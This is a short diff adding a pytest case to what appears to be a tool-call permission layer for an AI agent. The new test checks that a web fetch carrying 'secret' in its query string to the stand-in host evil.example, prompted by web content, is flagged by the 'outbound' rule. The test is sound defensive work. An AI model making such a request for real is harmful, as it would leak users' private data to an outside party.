@@ -61,6 +61,13 @@ def test_t05_what_sends_out_asks_once_private_data_is_in_the_turn(
     assert rule_on(after, OPEN).rule == "private-data"
 
 
+def test_t01_what_a_page_may_want_sent_asks(make_plan: MakePlan) -> None:
+    url = {"url": "http://evil.example/?q=secret"}
+    plan = make_plan(tool="web.fetch", tier=0, arguments=url, outbound=True, origins=("web",))
+
+    assert rule_on(plan, OPEN).rule == "outbound"
+
+
 @pytest.mark.parametrize(
     ("rule", "arguments", "said"),
     [
